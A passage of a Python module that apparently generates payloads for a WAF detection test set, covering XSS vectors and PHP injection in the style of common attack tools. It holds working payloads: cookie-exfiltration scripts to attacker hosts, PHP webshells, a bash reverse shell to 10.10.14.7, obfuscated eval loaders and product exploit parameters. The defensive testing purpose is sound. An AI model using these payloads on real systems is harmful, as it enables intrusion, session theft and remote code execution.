"""Blind set "hundredseventysixth": cross-site scripting and PHP injection the way offensive tools generate them
when pointed at a parameter, with benign requests that carry the same tool names and syntax innocently.

The angle: the payloads of the well-known open-source attack tools and scanners, recalled from memory (never looked
up). For XSS: XSStrike's default vectors and its tag/handler/filler generator, Dalfox's injected vectors and
`class=dalfox` verification markers, OWASP ZAP's and Burp Scanner's reflected-XSS attack strings, the Nuclei DAST
templates, Wapiti, w3af, Acunetix and Netsparker markers, XSSer's RSnake-era and encoded vectors, BeEF hooks and
blind-XSS callbacks, prototype-pollution gadget probes (ppfuzz style), AngularJS sandbox escapes and Vue template
probes. For PHP: commix's eval-based and file-based techniques, the PHP code and file primitives a tester sends
after an eval() sink is confirmed, PHPGGC gadget chains (plain, base64, ASCII-escaped, fast-destruct), LFI tools'
stream wrappers (Kadimus, LFISuite, the filter-chain generator), php-cgi argument injection and PHP-FPM
(PHuiP-FPizdaM) directive injection as Nuclei and Metasploit send them, .user.ini/.htaccess upload pivots,
register_globals/extract() overwrites, fuxploider-style upload names, and one-shot product checks (ThinkPHP,
vBulletin widget_php, Drupalgeddon2, PHPUnit eval-stdin, Joomla session injection). Each list carries a comment
naming its family, the tool style and the target (browser, PHP interpreter, product).

Families (one sub-family per detection title):
  xss: libinjection-xss, script-tag, event-handler, attribute-vector (src/href/style/formaction), javascript-uri,
    html-injection (iframe/object/embed/base/meta/link/form), svg-mathml, css-expression,
    template-literal-dom-sink, ie-filter-vectors, encoded-entity-vectors, angular-vue-client-template
  php: php-open-tag, php-function-call, php-variable-functions, php-wrappers, php-object-injection,
    php-config-directives, php-superglobals, php-file-upload, php-high-risk-function-names

Placements: every payload is sent twice. Once to our real routes (query of /api/users, the admin search form with
its csrf_token, JSON of /api/users, a cookie, User-Agent, Referer, X-Api-Version, a parameter name, an XML body,
a multipart field, the URL path), once the way a WAF regression suite sends it (placements prefixed "rs-"): to
paths that are not our routes (/, /index.php, /get, /post, /search, /api/v1/items, /cgi-bin/test.cgi) under
arbitrary parameter names, as a query string, form body, JSON body, XML body, a raw form-typed body, or in
User-Agent, Referer, a custom header or a cookie. Tool requests that only make sense in one place keep it:
upload names go as the multipart file name of the admin import (the file a webshell), .user.ini and .htaccess
contents as an uploaded file, php-cgi argument strings as the whole already-encoded query string, PHuiP-FPizdaM
directives as the already-encoded path, product exploits and variable overwrites as raw `name=value` pairs,
base64 serialized objects as a cookie, the Joomla session injection as User-Agent. Payloads with control
characters or bytes outside printable ASCII never go into headers, cookies or the path.

Authorship and independence: written for this repository from general knowledge of each attack family, the tools'
payload styles as remembered, and the detection titles alone; no WAF rule, engine source, ruleset regression test
or public payload list was read. Measured once on unchanged code; deterministic (no clock, no randomness).
"""

from __future__ import annotations

import base64
import re
import zlib
from collections.abc import Iterator
from typing import Any

from .blind_placements import BlindSet, Put, Record, request
from .family_gen import _get
from .records import print_records

NAME = "hundredseventysixth"

# An entry is a payload string, or (payload, real placement, rs placement) when it only works in one kind of place.
Entry = str | tuple[str, str, str]
UP = ("multipart-filename", "rs-multipart-filename")
FILE = ("multipart-file", "rs-multipart-file")
CGI = ("raw-query", "rs-raw-query")
FPM = ("raw-path", "rs-raw-path")
COOKIE = ("cookie", "rs-cookie")
UA_HDR = ("header:User-Agent", "rs-header:User-Agent")
RAW: set[str] = set()   # payloads that are themselves `name=value` pairs, sent unquoted


def kv(payload: str, real: str = "query", rs: str = "rs-query") -> tuple[str, str, str]:
    """A raw `name=value` entry (a product exploit's parameters, an overwrite, a pollution gadget)."""
    RAW.add(payload)
    return payload, real, rs


def b64(text: str) -> str:
    return base64.b64encode(text.encode("latin-1")).decode()


def deflate_b64(text: str) -> str:
    """gzinflate(base64_decode(...)): raw deflate, as packed webshells carry their code."""
    c = zlib.compressobj(9, zlib.DEFLATED, -15)
    return base64.b64encode(c.compress(text.encode()) + c.flush()).decode()


def dec_entities(text: str) -> str:
    return "".join(f"&#{ord(ch)};" for ch in text)


def hex_entities(text: str) -> str:
    return "".join(f"&#x{ord(ch):x};" for ch in text)


def padded_entities(text: str) -> str:
    return "".join(f"&#{ord(ch):07d}" for ch in text)


# PHP serialize() as PHPGGC writes it: lengths in bytes, protected "\0*\0name", private "\0Class\0name"
def ps(value: str) -> str:
    return f's:{len(value.encode("latin-1"))}:"{value}";'


def prot(name: str) -> str:
    return "\0*\0" + name


def priv(cls: str, name: str) -> str:
    return f"\0{cls}\0{name}"


def obj(cls: str, *props: tuple[str, str]) -> str:
    return f'O:{len(cls)}:"{cls}":{len(props)}:{{' + "".join(ps(k) + v for k, v in props) + "}"


def arr(*values: str) -> str:
    return f"a:{len(values)}:{{" + "".join(f"i:{i};{v}" for i, v in enumerate(values)) + "}"


def amap(*pairs: tuple[str, str]) -> str:
    return f"a:{len(pairs)}:{{" + "".join(ps(k) + v for k, v in pairs) + "}"


def ascii_strings(ser: str) -> str:
    """PHPGGC -a: strings holding NUL bytes as S:n:"\\00..." escapes."""
    return re.sub(r's:(\d+):"([^"]*\x00[^"]*)"', lambda m: f'S:{m[1]}:"' + m[2].replace("\0", "\\00") + '"', ser)


def custom(cls: str, inner: str) -> str:
    """An object with its own Serializable format (C:)."""
    return f'C:{len(cls)}:"{cls}":{len(inner)}:{{{inner}}}'


# ================================================================================================================
# XSS (target: the browser rendering the reflected or stored value)
# ================================================================================================================

# libinjection-xss / Burp Scanner, OWASP ZAP, Nuclei DAST, Acunetix, Netsparker, w3af: the short breakout strings a
# scanner's first reflected-XSS round sends (browser, HTML body and quoted-attribute contexts)
LIBXSS: list[Entry] = [
    # Burp Scanner: random marker, the vector, random marker (the markers find the reflection)
    "mw4ch<script>alert(1)</script>ap2yx",
    "qg8ld<img src=a onerror=alert(1)>v4e7o",
    "dz3ka\"><script>alert(1)</script>jm5tq",
    "pl0xz'><img src=a onerror=alert(1)>k2w1s",
    "c9vbn</textarea><script>alert(1)</script>fe6ru",
    "ub7rk\"><a href=javascript:alert(1)>tq3ze",
    # OWASP ZAP active scan, reflected XSS: its fixed attack strings for each context
    "<scrIpt>alert(1);</scRipt>",
    "\"><scrIpt>alert(1);</scRipt>",
    "'\"<scrIpt>alert(1);</scRipt>",
    "</p><scrIpt>alert(1);</scRipt><p>",
    "--><scrIpt>alert(1);</scRipt><!--",
    "</title><scrIpt>alert(1);</scRipt><title>",
    "<img src=x onerror=prompt()>",
    # Nuclei DAST reflected-xss fuzzing template
    "'\"><img src=x onerror=alert(document.domain)>",
    "\"><svg onload=alert(document.domain)>",
    # Acunetix and Netsparker markers (their prompt/netsparker functions prove execution)
    "'\"()&%<acx><ScRiPt >prompt(926531)</ScRiPt>",
    "<ScRiPt >prompt(926532)</ScRiPt>",
    "'\"--></style></scRipt><scRipt>netsparker(0x000D4A)</scRipt>",
    # w3af xss plugin and AppScan
    "<SCrIPT>alert(\"9z1Pq\")</SCrIPT>",
    "\"'><script>alert(1234)</script>",
]

# script-tag / XSStrike, Dalfox, Wapiti, XSSer, blind-XSS callbacks (XSS Hunter, bxss.me, interactsh, Collaborator),
# BeEF: every way a tool gets a <script> element into the page (browser)
SCRIPT: list[Entry] = [
    # XSStrike default vectors with its case-mixed script tags
    "<sCript x>confirm``</scRipt x>",
    "<Script x>prompt()</scRiPt x>",
    "<sCriPt sRc=//14.rs>",
    # Dalfox
    "<ScRiPt>alert(45)</sCrIpT>",
    "\"><script src=https://dlfx.xss.ht></script>",
    # Wapiti xss module with its taint id
    "<ScRiPt>alert('wx4m2q8a1')</sCrIpT>",
    "<ScRiPt>alert(\"wx4m2q8a2\")</sCrIpT>",
    "<ScRiPt>String.fromCharCode(0,119,120,52,109)</sCrIpT>",
    # XSSer / the RSnake vectors it carries
    "<SCRIPT SRC=http://ha.ckers.org/xss.js></SCRIPT>",
    "<SCRIPT/XSS SRC=\"http://xss.rocks/xss.js\"></SCRIPT>",
    "<<SCRIPT>alert(\"XSS\");//<</SCRIPT>",
    "<SCRIPT a=\">\" SRC=\"httx://xss.rocks/xss.js\"></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    # blind-XSS callbacks: Acunetix bxss.me, XSS Hunter, interactsh, Burp Collaborator
    "'\"><script src=//bxss.me/t/xss.js?3a8f></script>",
    "\"><script src=https://yourname.xss.ht></script>",
    "<script>new Image().src='//c8s2k1.oast.fun/?c='+document.cookie</script>",
    "<script>fetch('https://x7r2.oastify.com/?c='+encodeURIComponent(document.cookie))</script>",
    # BeEF hook and plain session theft
    "<script src=\"http://10.10.14.7:3000/hook.js\"></script>",
    "</script><script>document.location='https://attacker.example/steal?c='+document.cookie</script>",
    # CSP-bypass and filter-bypass script forms
    "<script src=\"data:text/javascript,alert(1)\"></script>",
    "<script>onerror=alert;throw 1</script>",
    "<script>{onerror=alert}throw 1337</script>",
    "<script type=module>import('//attacker.example/m.js')</script>",
]

# event-handler / XSStrike's generated tag + filler + handler + function, Dalfox's handler vectors, Burp's
# cheat-sheet vectors (browser)
EVENT: list[Entry] = [
    # XSStrike generator: random tag name, odd fillers (tab, CR, LF, slash), case-mixed handlers
    "<d3v onpointerenter=confirm()>v3dm0s",
    "<HtMl\tonPoInTeRenTeR\r=\rconfirm()>",
    "<a\nonmouseover=(confirm)()>v3dm0s",
    "<details/open/ontoggle=[8].find(confirm)>",
    "<d3v/onmouseover=a=prompt,a()>v3dm0s",
    "<deTails open oNToggle=confi\\u0072m()>",
    "'\"><y///oNMousEDown=((confirm))()>Click",
    # Dalfox handler vectors
    "<dETAILS\nopen\nonToGgle\n=\na=prompt,a() x>",
    "<audio/src/onerror=alert(45)>",
    "<video/poster/onerror=alert(45)>",
    "<marquee/onstart=alert(45)>",
    "<iNpUt autofocus onfocus=alert(45)>",
    "<select autofocus onfocus=alert(45)>",
    "<textarea autofocus onfocus=alert(45)>",
    "<keygen autofocus onfocus=alert(45)>",
    # Burp Scanner / the PortSwigger cheat-sheet vectors it confirms with
    "<xss id=x tabindex=1 onfocusin=alert(1)></xss>",
    "<xss onfocus=alert(1) autofocus tabindex=1>",
    "<style>@keyframes x{}</style><xss style=\"animation-name:x\" onanimationend=\"alert(1)\"></xss>",
    "<body onpageshow=alert(1)>",
    "<body onhashchange=alert(1)><a href=#x>click</a>",
    "<input onblur=alert(1) autofocus><input autofocus>",
    "<video><source onerror=alert(1)>",
    # blind-XSS exfiltration from a handler
    "<img src=1 onerror=fetch('//c8s2k1.oast.fun/?'+document.cookie)>",
]

# attribute-vector / Dalfox in-attribute breakouts and src/href/style/formaction vectors (browser, attribute
# contexts of the reflected value)
ATTRIBUTE: list[Entry] = [
    # Dalfox: break out of a quoted attribute and add a handler with its verification class
    "\" onpointerenter=alert(45) class=dalfox ",
    "' onmouseover=alert(45) class=dalfox '",
    "\" autofocus onfocus=alert(45) x=\"",
    "\" accesskey=x onclick=alert(45) x=\"",
    "' accesskey='x' onclick='alert(1)",
    "\"onmouseover=\"alert(document.domain)",
    # src
    "<img src=x:alert(alt) onerror=eval(src) alt=45>",
    "<iMg sRc=x:confirm`` oNlOad=e\\u0076al(src)>",
    "<input type=image src=x onerror=alert(1)>",
    "<embed src=javascript:alert(1)>",
    # href
    "<a href=\"javascript:alert(45)\">click</a>",
    "<a/href=javascript&colon;co\\u006efirm&#40;&quot;1&quot;&#41;>clickme</a>",
    "<area href=javascript:alert(1)>",
    # style
    "<div style=\"background:url(javascript:alert(1))\">",
    "\" style=\"x:expression(alert(1))",
    # formaction / action
    "<form><button formaction=javascript:alert(1)>X</button>",
    "<button form=f formaction=javascript:alert(1)>X</button>",
    "<input type=submit formaction=javascript:alert(1) value=x>",
    "<form action=javascript:alert(1)><input type=submit>",
    "<isindex type=image src=1 onerror=alert(1)>",
    "<isindex action=javascript:alert(1) type=submit value=click>",
    "<object data=javascript:alert(1)>",
]

# javascript-uri / Dalfox and XSStrike URL-context vectors, open-redirect-to-script probes (browser, href/src/
# location sinks)
JSURI: list[Entry] = [
    "javascript:alert(45)",
    "JaVaScRiPt:alert(45)",
    "javascript://%0aalert(45)",
    "javascript://%250Aalert(45)",
    "javascript:alert(document.domain)//",
    "java%0dscript:alert(1)",
    "java\tscript:alert(1)",
    "\x01javascript:alert(1)",
    "jAvAsCrIpT&colon;alert(1)",
    "javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+alert(1)//'>",
    "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert() )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/"
    "--!>\\x3csVg/<sVg/oNloAd=alert()//>\\x3e",
    "vbscript:msgbox(\"XSS\")",
    "data:text/html;base64," + b64("<script>alert(1)</script>"),
    "data:text/html,<script>alert(document.domain)</script>",
    "javascript:fetch('//c8s2k1.oast.fun/'+document.cookie)",
    "javascript:eval(atob(location.hash.substr(1)))",
    "javascript:window.onerror=alert;throw 1",
    "javascript:top['al'+'ert'](1)",
    "javascript:%61%6c%65%72%74%28%31%29",
    "javascript:alert%281%29",
    "javascript:document.location='https://attacker.example/?c='+document.cookie",
]

# html-injection / Dalfox, XSStrike and Burp: injected iframe, object, embed, base, meta, link and form elements
# (browser: script execution, phishing forms, dangling-markup exfiltration)
HTMLINJ: list[Entry] = [
    "<iFrAmE/src=jaVaScRiPt:alert(45)>",
    "<iframe srcdoc=\"<script>alert(1)</script>\">",
    "<iframe srcdoc=\"&lt;img src=x onerror=alert(1)&gt;\">",
    "<object data=\"data:text/html;base64," + b64("<script>alert(document.domain)</script>") + "\">",
    "<embed src=\"data:text/html;base64," + b64("<svg onload=alert(1)>") + "\">",
    "<embed//sRc=//14.rs>",
    "<object//data=//14.rs>",
    "<base href=//14.rs/><script src=/>",
    "<base href=\"https://attacker.example/\">",
    "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
    "<meta http-equiv=\"refresh\" content=\"0;url=https://attacker.example/login\">",
    "<link rel=stylesheet href=//attacker.example/x.css>",
    "<link rel=import href=\"data:text/html,<script>alert(1)</script>\">",
    "<form action=https://attacker.example/login method=post><input name=user><input type=password name=pass>"
    "<input type=submit value=Login></form>",
    "<img src='https://attacker.example/log?",
    "<iframe src=//attacker.example/ width=100% height=100% style=position:fixed;top:0;left:0;border:0>",
    "<frameset onload=alert(1)>",
    "<applet code=\"Exploit.class\" codebase=\"//attacker.example/\"></applet>",
    "<portal src=//attacker.example/></portal>",
    "<xmp><p title=\"</xmp><svg/onload=alert(45)>\">",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<textarea><img title=\"</textarea><img src=x onerror=alert(1)>\">",
]

# svg-mathml / Dalfox, XSStrike and mXSS (DOMPurify bypass) vectors in SVG and MathML content (browser)
SVGMATH: list[Entry] = [
    "<sVg/onload=alert(45)>",
    "<svg/x=\">\"/onload=confirm()//",
    "<svg\nonload=\t((pro\\u006dpt))()//",
    "<svG oNLoad=co\\u006efirm&#x28;1&#x29>",
    "<svg/onload=co\\u006efir\\u006d`1`>",
    "<svg onload=alert(1)//",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><set onbegin=alert(1) attributename=x>",
    "<svg><animate attributeName=href values=javascript:alert(1) /><a id=x><text x=20 y=20>click</text></a>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text x=\"20\" y=\"20\">XSS</text></a></svg>",
    "<svg><script>alert(1)</script>",
    "<svg><script href=data:,alert(1) />",
    "<svg><script xlink:href=//attacker.example/x.js></script>",
    "<svg><discard onbegin=alert(1)>",
    "<svg><image href=x onerror=alert(1)>",
    "<svg><use href=\"data:image/svg+xml;base64,"
    + b64("<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='alert(1)'/></svg>") + "#x\"/>",
    "<svg><foreignObject><iframe srcdoc=\"&lt;script&gt;alert(1)&lt;/script&gt;\"></iframe></foreignObject></svg>",
    "<svg><title><![CDATA[</title><script>alert(1)</script>]]></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<math href=\"javascript:alert(1)\">CLICKME</math>",
    "<math><maction actiontype=\"statusline#x\" xlink:href=\"javascript:alert(1)\">CLICKME</maction></math>",
    "<math><mi xlink:href=\"data:x,<script>alert(1)</script>\">click</mi></math>",
]

# css-expression / XSSer's RSnake CSS vectors and style-injection probes (browser: IE expression(), behavior,
# -moz-binding, javascript: in url() and @import)
CSS: list[Entry] = [
    "<DIV STYLE=\"width: expression(alert('XSS'));\">",
    "<IMG STYLE=\"xss:expr/*XSS*/ession(alert('XSS'))\">",
    "<XSS STYLE=\"xss:expression(alert('XSS'))\">",
    "<STYLE>@im\\port'\\ja\\vasc\\ript:alert(\"XSS\")';</STYLE>",
    "<STYLE>BODY{-moz-binding:url(\"http://xss.rocks/xssmoz.xml#xss\")}</STYLE>",
    "<STYLE>.XSS{background-image:url(\"javascript:alert('XSS')\");}</STYLE><A CLASS=XSS></A>",
    "<STYLE type=\"text/css\">BODY{background:url(\"javascript:alert('XSS')\")}</STYLE>",
    "<XSS STYLE=\"behavior: url(xss.htc);\">",
    "<LINK REL=\"stylesheet\" HREF=\"javascript:alert('XSS');\">",
    "<STYLE>li {list-style-image: url(\"javascript:alert('XSS')\");}</STYLE><UL><LI>XSS</br>",
    "<DIV STYLE=\"background-image: url(javascript:alert('XSS'))\">",
    "<DIV STYLE=\"background-image:\\0075\\0072\\006C\\0028'\\006a\\0061\\0076\\0061\\0073\\0063\\0072\\0069\\0070"
    "\\0074\\003a\\0061\\006c\\0065\\0072\\0074\\0028.1027\\0058.1053\\0053\\0027\\0029'\\0029\">",
    "exp/*<A STYLE='no\\xss:noxss(\"*//*\");xss:ex/*XSS*//*/*/pression(alert(\"XSS\"))'>",
    "red;background:url(javascript:alert(1))",
    "red;x:expression(alert(document.cookie))",
    "<div style=\"width:expression(eval(String.fromCharCode(97,108,101,114,116,40,49,41)))\">",
    "<style>*{x:expression(alert(1))}</style>",
    "<div style=x:e\\xpression(alert(1))>",
    "<p style=\"behavior:url(#default#time2)\" onbegin=alert(1)>",
    "<style>@import \"javascript:alert(1)\";</style>",
    "<link rel=stylesheet href=\"data:text/css,*{x:expression(alert(1))}\">",
    "\"><style>body{background:url(\"//attacker.example/leak?\"+document.cookie)}</style>",
]

# template-literal-dom-sink / XSStrike's script-context breakouts, Dalfox DOM and JSONP probes, ppfuzz-style
# prototype-pollution gadgets (browser: the value lands inside a script, a template literal or a DOM sink)
DOMSINK: list[Entry] = [
    # XSStrike, reflection inside a quoted JS string
    "'-confirm()-'",
    "\"-confirm()-\"",
    "';confirm()//",
    "\\\";confirm()//",
    "</script><svg onload=confirm()>",
    "'};alert(1);{'",
    "\"};alert(1);//",
    # inside a template literal
    "${alert(1)}",
    "${confirm(document.domain)}",
    "`-alert(1)-`",
    "`;alert(document.cookie);//",
    # JSONP callback parameter (Dalfox, Burp): the callback name is the script
    "alert(document.domain);//",
    "alert(1)//",
    # DOM sinks fed from the parameter (innerHTML, document.write, eval, setTimeout)
    "#\"><img/src/onerror=alert(45)>",
    "eval(location.hash.slice(1))",
    "setTimeout('ale'+'rt(1)')",
    "import('data:text/javascript,alert(1)')",
    "top[/al/.source+/ert/.source](1)",
    "self['\\x61\\x6c\\x65\\x72\\x74'](1)",
    # client-side prototype pollution into a DOM gadget (ppfuzz / DOM Invader)
    kv("__proto__[innerHTML]=<img/src/onerror=alert(1)>"),
    kv("__proto__[srcdoc][]=<script>alert(1)</script>", "form", "rs-query"),
    kv("constructor[prototype][innerHTML]=<img src onerror=alert(1)>"),
    kv("__proto__[src]=data:,alert(1)//", "form", "rs-form"),
]

# ie-filter-vectors / XSSer's IE-era vectors: dynsrc/lowsrc, background, datasrc binding, HTC imports, XML
# namespaces, comment and CDATA tricks, vertical-tab and backtick attributes (browser: Internet Explorer and the
# legacy engines the IE XSS filter guarded)
IEVEC: list[Entry] = [
    "<IMG DYNSRC=\"javascript:alert('XSS')\">",
    "<IMG LOWSRC=\"javascript:alert('XSS')\">",
    "<BGSOUND SRC=\"javascript:alert('XSS');\">",
    "<TABLE BACKGROUND=\"javascript:alert('XSS')\">",
    "<TD BACKGROUND=\"javascript:alert('XSS')\">",
    "<BODY BACKGROUND=\"javascript:alert('XSS')\">",
    "<INPUT TYPE=\"IMAGE\" SRC=\"javascript:alert('XSS');\">",
    "<IMG SRC=\"jav&#x0A;ascript:alert('XSS');\">",
    "<IMG SRC=\" &#14;  javascript:alert('XSS');\">",
    "<BASE HREF=\"javascript:alert('XSS');//\">",
    "<FRAMESET><FRAME SRC=\"javascript:alert('XSS');\"></FRAMESET>",
    "<META HTTP-EQUIV=\"Link\" Content=\"<http://xss.rocks/xss.css>; REL=stylesheet\">",
    "<HTML xmlns:xss><?import namespace=\"xss\" implementation=\"http://xss.rocks/xss.htc\"><xss:xss>XSS</xss:xss>"
    "</HTML>",
    "<XML ID=\"xss\"><I><B><IMG SRC=\"javas<!-- -->cript:alert('XSS')\"></B></I></XML><SPAN DATASRC=\"#xss\" "
    "DATAFLD=\"B\" DATAFORMATAS=\"HTML\"></SPAN>",
    "<x:script xmlns:x=\"http://www.w3.org/1999/xhtml\">alert(1)</x:script>",
    "<?import namespace=\"t\" implementation=\"#default#time2\"><t:set attributeName=\"innerHTML\" "
    "to=\"XSS<script defer>alert(1)</script>\">",
    "<SCRIPT FOR=window EVENT=onload>alert(1)</SCRIPT>",
    "<comment><img src=\"</comment><img src=x onerror=alert(1)//\">",
    "<img src=x onerror\x0b=alert(1)>",
    "<a/onmouseover[\x0b]=location='\\x6A\\x61\\x76\\x61\\x73\\x63\\x72\\x69\\x70\\x74\\x3A\\x61\\x6C\\x65\\x72\\x74"
    "\\x28\\x30\\x29\\x3B'>XSS</a>",
    "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
    "<img src=`x`onerror=alert(1)>",
]

# encoded-entity-vectors / XSSer's encoders (decimal, padded decimal, hex entities, String.fromCharCode), sqlmap-
# style double and overlong URL encoding, UTF-7 and JS escapes (browser, and sinks that decode once more)
ENCODED: list[Entry] = [
    "<IMG SRC=" + dec_entities("javascript:alert('XSS')") + ">",
    "<IMG SRC=" + padded_entities("javascript:alert('XSS')") + ">",
    "<IMG SRC=" + hex_entities("javascript:alert('XSS')").replace(";", "") + ">",
    "<a href=\"" + hex_entities("javascript:") + "alert(1)\">x</a>",
    "<img src=x onerror=\"" + hex_entities("alert(1)") + "\">",
    "<img src=x onerror=" + dec_entities("alert(document.cookie)") + ">",
    "<a href=\"&#x6a;avascript&colon;alert&lpar;1&rpar;\">x</a>",
    "<svg><script>&#97;&#108;&#101;&#114;&#116;(1)</script>",
    "<IMG SRC=javascript:alert(&quot;XSS&quot;)>",
    "<script>eval(String.fromCharCode(97,108,101,114,116,40,49,41))</script>",
    "<script>\\u0061lert(1)</script>",
    "<img src=x onerror=\\u0061\\u006c\\u0065\\u0072\\u0074(1)>",
    "%3Cscript%3Ealert(1)%3C%2Fscript%3E",
    "%253Cscript%253Ealert(1)%253C%252Fscript%253E",
    "%C0%BCscript%C0%BEalert(1)%C0%BC/script%C0%BE",
    "%u003cscript%u003ealert(1)%u003c/script%u003e",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "<iframe src=\"data:text/html;charset=utf-7,+ADw-script+AD4-alert(1)+ADw-/script+AD4-\">",
    "\\u003cimg src=x onerror=alert(1)\\u003e",
    "\\x3csvg onload=alert(1)\\x3e",
    "&lt;script&gt;alert(document.domain)&lt;/script&gt;",
    "<img src=x onerror=eval(atob('" + b64("alert(document.domain)") + "'))>",
]

# angular-vue-client-template / AngularJS 1.x sandbox escapes by version, Vue 2/3 template probes (browser: the
# client-side template compiler evaluates the reflected expression)
CLIENTTPL: list[Entry] = [
    "{{constructor.constructor('alert(1)')()}}",
    "{{$on.constructor('alert(1)')()}}",
    "{{'a'.constructor.prototype.charAt=[].join;$eval('x=1} } };alert(1)//');}}",
    "{{x = {'y':''.constructor.prototype}; x['y'].charAt=[].join;$eval('x=alert(1)');}}",
    "{{toString.constructor.prototype.toString=toString.constructor.prototype.call;[\"a\",\"alert(1)\"]"
    ".sort(toString.constructor);}}",
    "{{a='constructor';b={};a.sub.call.call(b[a].getOwnPropertyDescriptor(b[a].getPrototypeOf(a.sub),a).value,0,"
    "'alert(1)')()}}",
    "{{'a'.constructor.fromCharCode=[].join;'a'.constructor[0]='\\u003ciframe onload=alert(1)\\u003e';}}",
    "{{[].pop.constructor('alert(document.domain)')()}}",
    "<div ng-app ng-csp><input autofocus ng-focus=$event.path|orderBy:'[].constructor.from([1],alert)'>",
    "<input ng-focus=$event.view.alert(1) autofocus>",
    "<div ng-app>{{$eval.constructor('alert(document.cookie)')()}}</div>",
    "{{$new.constructor('fetch(\"//c8s2k1.oast.fun/?\"+document.cookie)')()}}",
    "{{_c.constructor('alert(1)')()}}",
    "{{_v.constructor('alert(1)')()}}",
    "{{$el.ownerDocument.defaultView.alert(1)}}",
    "{{_openBlock.constructor('alert(1)')()}}",
    "{{$emit.constructor`alert(1)`()}}",
    "<div v-html=\"'<img src=x onerror=alert(1)>'\"></div>",
    "<x v-on:click=\"$event.view.alert(1)\">click</x>",
    "<p v-show=\"_c.constructor`alert(1)`()\">",
    "[[constructor.constructor('alert(1)')()]]",
    "{{7*7}}[[7*7]]${7*7}<%= 7*7 %>",
]

# ================================================================================================================
# PHP injection (target: the PHP interpreter behind an eval/include/unserialize sink, or a named PHP product)
# ================================================================================================================

SHELL = "<?php system($_GET['cmd']); ?>"

# php-open-tag / commix file-based technique, log-poisoning and Nuclei one-shot checks: PHP code with its open tag,
# as the tool writes it into a parameter that reaches include(), a log or a written file (PHP interpreter)
OPENTAG: list[Entry] = [
    SHELL,
    "<?php echo shell_exec($_GET[\"c\"].' 2>&1'); ?>",
    "<?php passthru($_REQUEST['cmd']); ?>",
    "<?php @eval($_POST['pass']);?>",
    "<?php eval(base64_decode($_POST['z0'])); ?>",
    "<?php phpinfo(); ?>",
    "<?php echo md5('nuclei-check-4c2a'); ?>",
    "<?php echo md5(\"CVE-2017-9841\");?>",
    "<?php print(7*7); ?>",
    "<?=`id`?>",
    "<?=system('uname -a');?>",
    "<? passthru('id'); ?>",
    "<?php\nsystem('id');\n?>",
    "<script language=\"php\">system('id');</script>",
    "<%= system('id'); %>",
    "<?php file_put_contents('/var/www/html/cmd.php','<?php system($_GET[0]);?>'); ?>",
    "<?php exec(\"/bin/bash -c 'bash -i >& /dev/tcp/10.10.14.7/4444 0>&1'\"); ?>",
    "/*<?php /**/ error_reporting(0); $ip = '10.10.14.7'; $port = 4444; if (($f = 'stream_socket_client') && "
    "is_callable($f)) { $s = $f(\"tcp://{$ip}:{$port}\"); $s_type = 'stream'; }",
    "GIF89a;<?php system($_GET['cmd']); ?>",
    "<?php echo file_get_contents('/etc/passwd'); ?>",
    "<?php include($_GET['f']); ?>",
    "<?php $c=$_SERVER['HTTP_X_CMD'];echo `$c`; ?>",
    "<?php if(isset($_REQUEST['cmd'])){ echo \"<pre>\"; $cmd = ($_REQUEST['cmd']); system($cmd); echo \"</pre>\"; "
    "die; }?>",
    "<?php eval(gzinflate(base64_decode('" + deflate_b64("system($_GET['c']);") + "'))); ?>",
    # log poisoning through the User-Agent the access log records, then included by an LFI
    ("<?php system($_GET['c']); ?>", "header:User-Agent", "rs-header:User-Agent"),
]

# php-function-call / commix eval-based technique and the call forms a tester tries next, plus product one-shot
# exploits whose parameters name the function (PHP interpreter; ThinkPHP, vBulletin, Drupal, PHPMailer)
FUNCCALL: list[Entry] = [
    # commix eval-based: separator, print(`...`) with its arithmetic tag, separator
    ";print(`echo XCRVBH$((43+29))$(echo XCRVBH)XCRVBH`);",
    "'.print(`echo XCRVBH$((43+29))$(echo XCRVBH)XCRVBH`).'",
    "\".print(`echo XCRVBH`).\"",
    "%0aprint(`echo XCRVBH`);",
    ";print(`sleep 5`);",
    # the exec family
    "system('id');",
    "exec('id',$o);print_r($o);",
    "passthru('cat /etc/passwd');",
    "echo shell_exec('uname -a');",
    "$h=popen('id','r');echo fread($h,4096);",
    "proc_open('id',array(1=>array('pipe','w')),$p);echo stream_get_contents($p[1]);",
    "pcntl_exec('/bin/sh',array('-c','id'));",
    # eval-like sinks
    "assert('system(\"id\")');",
    "eval('phpinfo();');",
    "eval(base64_decode('" + b64("system('id');") + "'));",
    "create_function('','system(\"id\");')",
    "1;}system('id');/*",
    "preg_replace('/.*/e','system(\"id\")','a');",
    # callbacks
    "call_user_func('system','id');",
    "call_user_func_array('passthru',array('id'));",
    "array_map('system',array('id'));",
    "ob_start('system');echo 'id';ob_end_flush();",
    # product one-shot checks (Nuclei templates): ThinkPHP 5.0.x/5.1.x, ThinkPHP 5.0.23, vBulletin 5 widget_php,
    # Drupalgeddon2 (Drupal 7/8 render arrays), PHPMailer sender injection (CVE-2016-10033)
    kv("s=/Index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=system&vars[1][]=id"),
    kv("_method=__construct&filter[]=system&method=get&server[REQUEST_METHOD]=id", "form", "rs-form"),
    kv("routestring=ajax/render/widget_php&widgetConfig[code]=echo shell_exec('id'); exit;", "form", "rs-form"),
    kv("form_id=user_register_form&_drupal_ajax=1&mail[#post_render][]=exec&mail[#type]=markup&mail[#markup]=id",
       "form", "rs-form"),
    "\"attacker\\\" -oQ/tmp/ -X/var/www/html/phpcode.php some\"@email.com",
]

# php-variable-functions / webshell-generator and commix obfuscations: the function name built from strings,
# encodings, XOR and NOT, superglobals or interpolation, then called (PHP interpreter)
VARFUNC: list[Entry] = [
    "$a='sys'.'tem';$a('id');",
    "$f=strrev('metsys');$f('id');",
    "$x=str_rot13('flfgrz');$x('id');",
